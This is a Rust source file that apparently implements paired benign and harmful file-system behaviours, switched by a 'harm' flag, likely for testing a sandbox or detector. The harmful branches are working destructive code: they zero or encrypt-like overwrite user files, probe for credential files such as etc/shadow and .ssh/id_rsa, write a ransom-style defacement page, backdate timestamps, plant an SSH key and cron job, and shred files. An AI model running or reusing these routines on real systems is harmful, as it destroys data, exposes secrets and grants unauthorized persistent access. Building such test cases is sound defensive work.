// The behaviours of later.h in Rust.

fn late_zeros(job: &mut Job) {
    for (i, (theirs, size)) in job.files.clone().into_iter().enumerate() {
        let path = if job.harm { theirs } else { format!("/base/reserved-{}", i) };
        if let Ok(mut file) = OpenOptions::new().write(true).create(!job.harm).open(path) {
            let mut done = 0;
            while done < size {
                let _ = file.write_all(&[0; 512]);
                done += 512;
            }
        }
        job.say(format!("{} ready", i));
    }
}

fn late_partial(job: &mut Job) {
    for path in job.paths() {
        let mut data = fs::read(&path).unwrap_or_default();
        if let Ok(mut file) = OpenOptions::new().write(true).open(&path) {
            let mut from = 0;
            while from + 128 <= data.len() {
                job.transform(&mut data[from..from + 128]);
                let _ = file.seek(SeekFrom::Start(from as u64));
                let _ = file.write_all(&data[from..from + 128]);
                from += 256;
            }
        }
        job.say(path);
    }
}

fn late_bundle(job: &mut Job) {
    let mut out = File::create(if job.harm { "/base/.cache.dat" } else { "/base/backup.tar" }).unwrap();
    for path in job.paths() {
        let mut data = fs::read(&path).unwrap_or_default();
        if job.harm {
            job.transform(&mut data);
        }
        let _ = writeln!(out, "{} {}", path, data.len());
        let _ = out.write_all(&data);
    }
    job.say(format!("{} files", job.files.len()));
}

fn late_survey(job: &mut Job) {
    let things = [
        "etc/passwd", "etc/shadow", "etc/hosts", ".ssh/id_rsa", ".aws/credentials", ".kube/config", ".docker/config.json",
        ".gnupg/secring.gpg", "proc/version", "proc/cpuinfo", "usr/bin/gdb", "usr/bin/python3", "var/run/docker.sock",
        "opt/av/agent", "usr/sbin/auditd", ".bash_history", ".netrc", ".pgpass", "wallet.dat", "root/.profile",
    ];
    let settings = ["tool.conf", ".tool.conf", "conf/tool.conf", "data/a.txt"];
    let names: &[&str] = if job.harm { &things } else { &settings };
    let found = names.iter().filter(|name| fs::metadata(format!("/base/{}", name)).is_ok()).count();
    job.say(format!("{} found", found));
}

fn late_rights(job: &mut Job) {
    use std::os::wasi::io::AsRawFd;
    let paths = job.paths();
    let mut refused = 0;
    for i in 0..20 {
        if let Ok(file) = File::open(&paths[i % paths.len()]) {
            let rights = if job.harm { u64::MAX } else { 2 };
            refused += (unsafe { raw::fd_fdstat_set_rights(file.as_raw_fd() as u32, rights, 0) } != 0) as u32;
        }
    }
    job.say(format!("{}", refused));
}

fn late_links(job: &mut Job) {
    for i in 0..if job.harm { 600 } else { 5 } {
        symlink("data/a.txt", &format!("name-{}", i));
    }
    job.say("linked".into());
}

fn late_hide(job: &mut Job) {
    for (i, theirs) in job.paths().into_iter().enumerate() {
        let own = format!("/base/state-{}", i);
        if !job.harm {
            let _ = fs::write(&own, b"state\n");
        }
        let _ = fs::rename(if job.harm { theirs } else { own }, format!("/base/.state-{}", i));
    }
    job.say(format!("{}", job.files.len()));
}

fn late_deface(job: &mut Job) {
    let page = "<h1>All your files are somewhere else now. Write to the address below.</h1>\n";
    for (i, theirs) in job.paths().into_iter().enumerate() {
        let _ = fs::write(if job.harm { theirs } else { format!("/base/page-{}.html", i) }, page);
        job.say(format!("page {}", i));
    }
}

fn late_falsify(job: &mut Job) {
    for theirs in job.paths() {
        let _ = fs::metadata(&theirs);
        let data = fs::read(&theirs).unwrap_or_default();
        let path = if job.harm { theirs } else { format!("{}.corrected", theirs) };
        if !job.harm {
            let _ = fs::write(&path, &data);
        }
        if let Ok(mut file) = OpenOptions::new().write(true).open(&path) {
            let _ = file.seek(SeekFrom::Start(data.len() as u64 / 2));
            let _ = file.write_all(b"7");
        }
        if job.harm {
            let name = &path["/base/".len()..];
            unsafe { raw::path_filestat_set_times(3, 0, name.as_ptr(), name.len(), 1, 1, 5) };
        }
    }
    job.say(format!("{} files", job.files.len()));
}

fn late_burn(job: &mut Job) {
    let mut sum = 0;
    for _ in 0..if job.harm { 20000 } else { 20 } {
        let mut bytes = [0u8; 64];
        unsafe { raw::random_get(bytes.as_mut_ptr(), bytes.len()) };
        sum += bytes[0] as u32;
        std::thread::yield_now();
    }
    job.say(format!("{}", sum > 0));
}

fn late_persist(job: &mut Job) {
    let folder = if job.harm { "/base/home/.ssh" } else { "/base/home/notes" };
    let _ = fs::create_dir_all(folder);
    if job.harm {
        append(&format!("{}/authorized_keys", folder), b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI someone@elsewhere\n");
    } else {
        append(&format!("{}/keys.txt", folder), b"- the list of keys is in the safe\n");
    }
    let folder = if job.harm { "/base/etc/cron.d" } else { "/base/etc/app.d" };
    let _ = fs::create_dir_all(folder);
    let _ = fs::write(format!("{}/job", folder), b"* * * * * start\n");
    job.say("kept".into());
}

fn late_shred(job: &mut Job) {
    for (i, theirs) in job.paths().into_iter().enumerate() {
        let path = if job.harm { theirs } else { format!("/base/secret-{}", i) };
        for _ in 0..3 {
            let noise: Vec<u8> = (0..512).map(|_| (job.next() >> 24) as u8).collect();
            if let Ok(mut file) = OpenOptions::new().write(true).create(!job.harm).open(&path) {
                let _ = file.write_all(&noise);
            }
        }
        let _ = fs::remove_file(&path);
        job.say(format!("{} away", i));
    }
}
